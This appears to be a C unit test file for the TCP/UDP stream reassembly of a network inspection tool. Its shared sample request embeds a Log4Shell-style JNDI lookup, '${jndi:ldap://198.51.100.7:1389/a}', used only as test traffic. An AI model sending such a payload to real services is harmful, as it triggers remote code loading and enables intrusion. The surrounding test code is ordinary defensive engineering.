/* SPDX-License-Identifier: GPL-2.0-or-later */
#include "base/count.h"
#include "support/talk.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdlib.h>
#include <cmocka.h>

static const char text[] = "GET /?q=${jndi:ldap://198.51.100.7:1389/a} HTTP/1.1\r\nHost: shop\r\n\r\n";
static const uint32_t text_len = sizeof text - 1;

enum { ACK = TH_FLAG_ACK, SYN = TH_FLAG_SYN, FIN = TH_FLAG_FIN, RST = TH_FLAG_RST };

static struct bytes none(void)
{
    return (struct bytes){NULL, 0};
}

/* One segment of side `from`, which says this piece of text. The piece is its own allocation, so that ASan
 * sees an overread of one byte. */
static void piece(const struct talk *t, unsigned from, size_t at, size_t len)
{
    uint8_t *exact = malloc(len + !len);

    memcpy(exact, text + at, len);
    talk_send(talk_packet(t, from, ACK, t->seq[from] + (uint32_t)at, t->seq[!from], bytes_of(exact, len)));
    free(exact);
}

static void acknowledge(const struct talk *t, unsigned from, uint32_t of_text)
{
    talk_send(talk_packet(t, from, ACK, t->seq[from], t->seq[!from] + of_text, none()));
}

/* One flow was heard, it said text (and nothing else) from side 0. */
static void assert_text(void)
{
    assert_int_equal(talk_n_heard(), 1);
    assert_true(talk_is(talk_heard(0), 0, text));
    assert_int_equal(talk_heard(0)->side[0].gap, 0);
    assert_int_equal(counters[COUNT_STREAM_BYTES], text_len);
    assert_int_equal(counters[COUNT_STREAM_GAPS], 0);
}

static int setup(void **state)
{
    (void)state;
    talk_clear();
    return 0;
}

static int teardown(void **state)
{
    (void)state;
    stream_flush(talk_stream);
    assert_true(talk_in_order);
    assert_true(talk_adds_up);
    assert_int_equal(stream_bytes_told(talk_stream), counters[COUNT_STREAM_PAYLOAD_BYTES]);
    assert_int_equal(stream_n_flows(talk_stream), 0);
    for (unsigned i = 0; i < talk_n_heard(); i++)
        assert_true(talk_heard(i)->over);
    return 0;
}

static void plain_conversation(void **state)
{
    struct talk t = talk_new(4);
    const struct heard *h;
    uint64_t request;

    (void)state;
    talk_handshake(&t);
    talk_say(&t, 0, text);
    request = talk_number;
    h = talk_heard(0); /* at once, not when it is acknowledged */
    assert_true(talk_is(h, 0, text));
    assert_int_equal(h->side[0].last_packet, request);
    assert_int_equal(h->side[0].last_us, talk_now_us);
    assert_true(h->flow.client_known);
    assert_int_equal(h->flow.client, 0);
    talk_say(&t, 1, "HTTP/1.1 200 OK\r\n\r\n");
    talk_fin(&t, 0);
    assert_int_equal(h->side[0].n_end, 1);
    assert_int_equal(h->side[1].n_end, 0);
    talk_fin(&t, 1);
    talk_ack(&t, 0);
    assert_int_equal(h->side[1].n_end, 1);
    assert_true(talk_is(h, 1, "HTTP/1.1 200 OK\r\n\r\n"));
    assert_int_equal(h->flow.end[0].packets, 4);
    assert_int_equal(counters[COUNT_STREAM_MIDSTREAM], 0);
    assert_false(h->over);
    stream_tick(talk_stream, talk_now_us + talk_config.flow_closed_us);
    assert_true(h->over);
    assert_int_equal(counters[COUNT_FLOW_TIMEOUT], 1);
}

static void ids_are_small_and_differ(void **state)
{
    struct talk a = talk_new(4), b = talk_new(4);

    (void)state;
    talk_say(&a, 0, "a");
    talk_say(&b, 0, "b");
    assert_true(talk_heard(0)->flow.id != 0 && talk_heard(0)->flow.id < UINT64_C(1) << 51);
    assert_true(talk_heard(0)->flow.id != talk_heard(1)->flow.id);
}

static void every_split(void **state)
{
    (void)state;
    for (uint8_t version = 4; version <= 6; version += 2)
        for (size_t cut = 0; cut <= text_len; cut++) {
            struct talk t = talk_new(version);

            talk_clear();
            talk_handshake(&t);
            piece(&t, 0, 0, cut);
            piece(&t, 0, cut, text_len - cut);
            assert_text();
        }
}

static void every_split_the_wrong_way_round(void **state)
{
    (void)state;
    for (uint8_t version = 4; version <= 6; version += 2)
        for (size_t cut = 1; cut < text_len; cut++) {
            struct talk t = talk_new(version);

            talk_clear();
            talk_handshake(&t);
            piece(&t, 0, cut, text_len - cut);
            assert_int_equal(talk_n_heard(), 0);
            piece(&t, 0, 0, cut);
            assert_text();
        }
}

static void byte_by_byte(void **state)
{
    struct talk t = talk_new(4);

    (void)state;
    talk_handshake(&t);
    for (size_t i = 0; i < text_len; i++)
        piece(&t, 0, i, 1);
    assert_text();
}

static void byte_by_byte_backwards(void **state)
{
    struct talk t = talk_new(4);

    (void)state;
    talk_handshake(&t);
    for (size_t i = text_len; i-- > 0;)
        piece(&t, 0, i, 1);
    assert_text();
    assert_int_equal(counters[COUNT_STREAM_OUT_OF_ORDER], text_len - 1);
}

static void any_order_any_copies(void **state)
{
    (void)state;
    srand(7);
    for (unsigned round = 0; round < 300; round++) {
        struct talk t = talk_new(round % 2 ? 4 : 6);
        bool seen[sizeof text] = {false};
        size_t left = text_len;

        talk_clear();
        t.seq[0] = 0u - (uint32_t)(rand() % 40); /* somewhere the numbers wrap */
        talk_handshake(&t);
        while (left) { /* pieces of any size, again and again, until each byte was sent */
            size_t at = (size_t)rand() % text_len, len = 1 + (size_t)rand() % 20;

            len = len < text_len - at ? len : text_len - at;
            piece(&t, 0, at, len);
            for (size_t i = at; i < at + len; i++) {
                left -= !seen[i];
                seen[i] = true;
            }
        }
        assert_text();
    }
}

static void both_ways_on_vlan_twins(void **state)
{
    struct talk a = talk_new(4), b;

    (void)state;
    a.vlan = 10;
    b = a;
    b.vlan = 20;
    talk_handshake(&a);
    talk_handshake(&b);
    talk_say(&a, 0, "one ");
    talk_say(&b, 0, "two ");
    talk_say(&a, 1, "ONE");
    talk_say(&b, 1, "TWO");
    talk_say(&a, 0, "more");
    assert_int_equal(talk_n_heard(), 2);
    assert_true(talk_is(talk_heard(0), 0, "one more") && talk_is(talk_heard(0), 1, "ONE"));
    assert_true(talk_is(talk_heard(1), 0, "two ") && talk_is(talk_heard(1), 1, "TWO"));
}

static void midstream(void **state)
{
    struct talk t = talk_new(4);

    (void)state;
    t.port[1] = 389;
    talk_say(&t, 1, "from the server first");
    assert_int_equal(talk_heard(0)->flow.client, 1); /* the other side, by its port */
    assert_false(talk_heard(0)->flow.client_known);
    talk_say(&t, 0, "then the client");
    talk_say(&t, 1, ", and again");
    assert_true(talk_is(talk_heard(0), 0, "from the server first, and again"));
    assert_true(talk_is(talk_heard(0), 1, "then the client"));
    assert_int_equal(counters[COUNT_STREAM_MIDSTREAM], 1);
}

static void midstream_switched_off(void **state)
{
    struct talk t = talk_new(4);

    (void)state;
    talk_config.stream_midstream = false;
    talk_say(&t, 0, "unwanted");
    talk_say(&t, 1, "unwanted");
    assert_int_equal(talk_n_heard(), 0);
    assert_int_equal(counters[COUNT_STREAM_MIDSTREAM_OFF], 2);
    t = talk_new(4);
    talk_handshake(&t);
    talk_say(&t, 0, "wanted");
    assert_true(talk_is(talk_heard(0), 0, "wanted"));
}

/* Only what one side sends is captured, with and without its SYN. */
static void one_sided(void **state)
{
    (void)state;
    for (unsigned from = 0; from < 2; from++)
        for (unsigned syn = 0; syn < 2; syn++) {
            struct talk t = talk_new(4);

            talk_clear();
            if (syn)
                talk_send(talk_packet(&t, from, from ? SYN | ACK : SYN, t.seq[from]++, t.seq[!from], none()));
            for (unsigned i = 0; i < 3; i++) {
                talk_say(&t, from, "part ");
                t.seq[!from] += 100; /* said by the other, unseen */
            }
            talk_fin(&t, from);
            assert_int_equal(talk_n_heard(), 1);
            assert_true(talk_is(talk_heard(0), 0, "part part part "));
            assert_int_equal(talk_heard(0)->side[0].n_end, 1);
            assert_int_equal(talk_heard(0)->flow.client_known, syn);
            assert_int_equal(counters[COUNT_STREAM_GAPS], 0);
        }
}

static void one_sided_loss_waits_a_little(void **state)
{
    struct talk t = talk_new(4);
    const struct heard *h;

    (void)state;
    talk_say(&t, 0, "before ");
    t.seq[0] += 5000;
    talk_say(&t, 0, "after ");
    h = talk_heard(0);
    assert_true(talk_is(h, 0, "before "));
    talk_now_us += 300000;
    talk_say(&t, 0, "later");
    assert_true(talk_is(h, 0, "before after later"));
    assert_int_equal(h->side[0].gap, 5000);
    assert_int_equal(h->side[0].gap_at, 7);
    assert_int_equal(counters[COUNT_STREAM_GAPS], 1);
    assert_int_equal(counters[COUNT_STREAM_GAP_BYTES], 5000);
}

static void one_sided_loss_of_much(void **state)
{
    static char block[1460];
    struct talk t = talk_new(4);

    (void)state;
    memset(block, 'x', sizeof block - 1);
    talk_quiet = true; /* no time passes: the amount decides */
    talk_say(&t, 0, "a");
    t.seq[0] += 200u << 20;
    for (unsigned i = 0; i < 50; i++)
        talk_say(&t, 0, block);
    assert_int_equal(talk_heard(0)->side[0].gap, 200u << 20);
    assert_int_equal(talk_heard(0)->side[0].text.len, 1 + 50 * (sizeof block - 1));
}

/* Mirror ports bring the acknowledgment of a segment before the segment: two more of its side are still no
 * proof that it was lost, three are. */
static void three_segments_after_the_acknowledgment(void **state)
{
    struct talk t = talk_new(4);

    (void)state;
    talk_handshake(&t);
    talk_quiet = true; /* no time passes: the count decides */
    talk_say(&t, 0, "a");
    t.seq[0] += 10;
    talk_say(&t, 0, "b");
    talk_ack(&t, 1);
    talk_say(&t, 0, "c");
    talk_say(&t, 0, "d");
    assert_true(talk_is(talk_heard(0), 0, "a"));
    talk_say(&t, 0, "e");
    assert_true(talk_is(talk_heard(0), 0, "abcde"));
    assert_int_equal(talk_heard(0)->side[0].gap, 10);
}

static void loss_is_known_by_the_acknowledgment(void **state)
{
    struct talk t = talk_new(4);
    const struct heard *h;

    (void)state;
    talk_handshake(&t);
    piece(&t, 0, 0, 10);
    piece(&t, 0, 20, 10);
    h = talk_heard(0);
    assert_true(h->side[0].text.len == 10);
    acknowledge(&t, 1, 30);
    assert_true(h->side[0].text.len == 10); /* the segment may be on its way still */
    talk_now_us += 120000;
    acknowledge(&t, 1, 30);
    assert_int_equal(h->side[0].text.len, 20);
    assert_int_equal(h->side[0].gap, 10);
    piece(&t, 0, 10, 10); /* late: its place has gone */
    piece(&t, 0, 30, 10);
    assert_int_equal(h->side[0].text.len, 30);
    assert_memory_equal(h->side[0].text.p + 10, text + 20, 20);
}

/* As long as the receiver asks for the bytes, they will come, however long an attacker makes us wait. */
static void loss_on_the_way_is_waited_for(void **state)
{
    struct talk t = talk_new(4);

    (void)state;
    talk_handshake(&t);
    piece(&t, 0, 0, 10);
    acknowledge(&t, 1, 10);
    for (size_t at = 20; at + 5 <= 50; at += 5) {
        piece(&t, 0, at, 5);
        acknowledge(&t, 1, 10);
        talk_now_us += 500000;
    }
    piece(&t, 0, 10, 10);
    piece(&t, 0, 50, text_len - 50);
    assert_text();
}

static void loss_before_fin(void **state)
{
    struct talk t = talk_new(4);

    (void)state;
    talk_handshake(&t);
    talk_say(&t, 0, "seen");
    t.seq[0] += 7;
    talk_fin(&t, 0);
    assert_int_equal(talk_heard(0)->side[0].n_end, 0);
    talk_ack(&t, 1);
    talk_now_us += 120000;
    talk_ack(&t, 1);
    assert_int_equal(talk_heard(0)->side[0].n_end, 1);
    assert_int_equal(talk_heard(0)->side[0].gap, 7); /* the end tells of it */
}

static void flush_gives_what_waits(void **state)
{
    struct talk t = talk_new(4);
    const struct heard *h;
    uint64_t last;

    (void)state;
    talk_handshake(&t);
    piece(&t, 0, 0, 10);
    piece(&t, 0, 20, 10);
    piece(&t, 0, 40, 10);
    last = talk_number;
    talk_say(&t, 1, "no acknowledgment beyond 0");
    stream_flush(talk_stream);
    h = talk_heard(0);
    assert_int_equal(h->side[0].text.len, 30);
    assert_int_equal(h->side[0].n_gaps, 2);
    assert_int_equal(h->side[0].gap, 20);
    assert_int_equal(h->side[0].last_packet, last);
    assert_int_equal(h->side[0].n_end, 1);
}

static void expiry_gives_what_waits(void **state)
{
    struct talk t = talk_new(4);

    (void)state;
    talk_handshake(&t);
    piece(&t, 0, 20, 10);
    stream_tick(talk_stream, talk_now_us + talk_config.flow_established_us);
    assert_int_equal(talk_heard(0)->side[0].text.len, 10);
    assert_int_equal(talk_heard(0)->side[0].gap, 20);
    assert_true(talk_heard(0)->over);
}

/* Two files, the second 45 seconds older: more than a young flow may be idle, too little for a clock set
 * back. */
static void older_than_the_clock(void **state)
{
    struct talk ahead = talk_new(4), late = talk_new(4);

    (void)state;
    talk_handshake(&ahead);
    talk_now_us -= 45 * UINT64_C(1000000);
    talk_handshake(&late);
    talk_say(&late, 0, "GET / ");
    talk_say(&late, 0, "HTTP/1.1");
    assert_int_equal(talk_n_heard(), 1);
    assert_true(talk_is(talk_heard(0), 0, "GET / HTTP/1.1"));
    assert_int_equal(counters[COUNT_FLOW_TIMEOUT], 0);
    assert_int_equal(counters[COUNT_STREAM_MIDSTREAM], 0);
}

static void snapped_payload(void **state)
{
    struct talk t = talk_new(4);
    struct packet p;

    (void)state;
    talk_handshake(&t);
    p = talk_packet(&t, 0, ACK, t.seq[0], t.seq[1], BYTES_LIT("head"));
    p.payload_len = 100;
    talk_send(p);
    t.seq[0] += 100;
    talk_say(&t, 0, "next");
    assert_true(talk_is(talk_heard(0), 0, "headnext"));
    assert_int_equal(talk_heard(0)->side[0].gap, 96);
    assert_int_equal(talk_heard(0)->side[0].gap_at, 4);
    p = talk_packet(&t, 0, ACK, t.seq[0], t.seq[1], none()); /* nothing of it was captured */
    p.payload_len = 50;
    talk_send(p);
    t.seq[0] += 50;
    talk_say(&t, 0, "last");
    assert_true(talk_is(talk_heard(0), 0, "headnextlast"));
    assert_int_equal(talk_heard(0)->side[0].gap, 146);
}

static void a_segment_larger_than_ipv4_allows(void **state)
{
    struct talk t = talk_new(6);
    size_t len = 65535 + 9000;
    uint8_t *big = malloc(len);

    (void)state;
    for (size_t i = 0; i < len; i++)
        big[i] = (uint8_t)(i % 251);
    t.window = 65535;
    talk_say(&t, 0, "x");
    talk_send(talk_packet(&t, 0, ACK, t.seq[0], t.seq[1], bytes_of(big, len)));
    assert_int_equal(talk_heard(0)->side[0].text.len, len + 1);
    assert_memory_equal(talk_heard(0)->side[0].text.p + 1, big, len);
    free(big);
}

static void depth(void **state)
{
    struct talk t = talk_new(4);

    (void)state;
    talk_config.stream_depth = 10;
    talk_handshake(&t);
    talk_say(&t, 0, "0123456789abcdef");
    talk_say(&t, 0, "ghi");
    talk_say(&t, 1, "short");
    talk_fin(&t, 0);
    assert_true(talk_is(talk_heard(0), 0, "0123456789"));
    assert_true(talk_is(talk_heard(0), 1, "short"));
    assert_int_equal(counters[COUNT_STREAM_DEPTH_BYTES], 9);
    assert_int_equal(talk_heard(0)->side[0].n_end, 1);
}

static void enough_is_followed_by_the_end_alone(void **state)
{
    struct talk t = talk_new(4);
    const struct heard *h;

    (void)state;
    talk_appetite = 4;
    talk_handshake(&t);
    talk_say(&t, 0, "abcd");
    talk_say(&t, 0, "efgh");
    talk_say(&t, 1, "1234");
    talk_say(&t, 1, "5678");
    h = talk_heard(0);
    assert_int_equal(h->side[0].n_chunks, 1);
    talk_fin(&t, 0);
    assert_int_equal(h->side[0].n_chunks, 2);
    assert_int_equal(h->side[0].n_end, 1);
    assert_int_equal(h->side[1].n_end, 0);
    stream_flush(talk_stream);
    assert_int_equal(h->side[1].n_end, 1);
    assert_true(talk_is(h, 0, "abcd") && talk_is(h, 1, "1234"));
}

/* What is left unread is no loss unless an inspector says so. */
static void what_comes_after_enough_is_counted_as_told(void **state)
{
    struct talk t = talk_new(4);

    (void)state;
    talk_appetite = 4;
    talk_unread_as(0, COUNT_INSPECT_TLS_BYTES);
    talk_handshake(&t);
    talk_say(&t, 0, "abcd");
    talk_say(&t, 1, "1234");
    talk_say(&t, 0, "efgh");
    talk_say(&t, 0, "ijklmn");
    talk_send(talk_packet(&t, 0, ACK, t.seq[0] - 6, t.seq[1], BYTES_LIT("ijklmn"))); /* again */
    talk_say(&t, 1, "5678");
    talk_fin(&t, 0);
    assert_int_equal(counters[COUNT_INSPECT_TLS_BYTES], 10);
    assert_int_equal(counters[COUNT_STREAM_BYTES], 8);
    assert_int_equal(counters[COUNT_STREAM_DEPTH_BYTES], 0);
}

/* After a change of mind all goes on as behind a hole, which counts as none. */
static void enough_and_wanted_again(void **state)
{
    struct talk t = talk_new(4);
    const struct heard *h;

    (void)state;
    talk_appetite = 4;
    talk_handshake(&t);
    talk_say(&t, 0, "abcd");
    talk_say(&t, 1, "1234");
    talk_say(&t, 0, "efgh");
    talk_say(&t, 1, "56");
    talk_appetite = UINT64_MAX;
    talk_say(&t, 0, "ij"); /* nobody asks of its own accord */
    h = talk_heard(0);
    assert_int_equal(h->side[0].n_chunks, 1);
    stream_ask_again(talk_stream);
    piece(&t, 0, 5, 5); /* early: it waits, as ever */
    talk_say(&t, 1, "78");
    assert_int_equal(h->side[0].n_chunks, 1);
    piece(&t, 0, 0, 5);
    assert_int_equal(h->side[0].text.len, 14);
    assert_int_equal(h->side[0].gap, 6);
    assert_int_equal(h->side[0].gap_at, 4);
    assert_true(talk_is(h, 1, "123478"));
    assert_int_equal(h->side[1].gap, 2);
    assert_int_equal(counters[COUNT_STREAM_UNREAD_BYTES], 8);
    assert_int_equal(counters[COUNT_STREAM_GAPS], 0);
    assert_false(h->flow.end[0].gap);
    talk_fin(&t, 1);
    stream_ask_again(talk_stream);
    assert_int_equal(h->side[1].n_end, 1);
    stream_flush(talk_stream);
    assert_int_equal(h->side[0].n_end, 1);
    assert_int_equal(h->side[1].n_end, 1);
}

static void enough_while_more_waits(void **state)
{
    struct talk t = talk_new(4);

    (void)state;
    talk_appetite = 3;
    talk_handshake(&t);
    piece(&t, 0, 10, 5);
    piece(&t, 0, 5, 5);
    piece(&t, 0, 0, 5);
    assert_int_equal(talk_heard(0)->side[0].n_chunks, 1);
    assert_int_equal(talk_heard(0)->side[0].text.len, 5);
}

static void datagrams(void **state)
{
    struct talk t = talk_new(4);
    struct packet p = talk_packet(&t, 0, 0, 0, 0, BYTES_LIT("query"));

    (void)state;
    p.proto = PROTO_UDP;
    talk_send(p);
    talk_send(p);
    p = talk_packet(&t, 1, 0, 0, 0, BYTES_LIT("answer"));
    p.proto = PROTO_UDP;
    talk_send(p);
    assert_int_equal(talk_n_heard(), 1);
    assert_true(talk_is(talk_heard(0), 0, "queryquery") && talk_is(talk_heard(0), 1, "answer"));
    assert_int_equal(talk_heard(0)->side[0].n_begin, 2);
    assert_int_equal(talk_heard(0)->side[0].n_end, 2);
    assert_int_equal(counters[COUNT_FLOW_UDP], 1);
    stream_tick(talk_stream, talk_now_us + talk_config.flow_udp_us);
    assert_true(talk_heard(0)->over);
}

#define TEST(f) cmocka_unit_test_setup_teardown(f, setup, teardown)

int main(void)
{
    const struct CMUnitTest tests[] = {
        TEST(plain_conversation),
        TEST(ids_are_small_and_differ),
        TEST(every_split),
        TEST(every_split_the_wrong_way_round),
        TEST(byte_by_byte),
        TEST(byte_by_byte_backwards),
        TEST(any_order_any_copies),
        TEST(both_ways_on_vlan_twins),
        TEST(midstream),
        TEST(midstream_switched_off),
        TEST(one_sided),
        TEST(one_sided_loss_waits_a_little),
        TEST(one_sided_loss_of_much),
        TEST(three_segments_after_the_acknowledgment),
        TEST(loss_is_known_by_the_acknowledgment),
        TEST(loss_on_the_way_is_waited_for),
        TEST(loss_before_fin),
        TEST(flush_gives_what_waits),
        TEST(expiry_gives_what_waits),
        TEST(older_than_the_clock),
        TEST(snapped_payload),
        TEST(a_segment_larger_than_ipv4_allows),
        TEST(depth),
        TEST(enough_is_followed_by_the_end_alone),
        TEST(what_comes_after_enough_is_counted_as_told),
        TEST(enough_and_wanted_again),
        TEST(enough_while_more_waits),
        TEST(datagrams),
    };
    int failed;

    talk_open();
    failed = cmocka_run_group_tests(tests, NULL, NULL);
    talk_close();
    return failed;
}
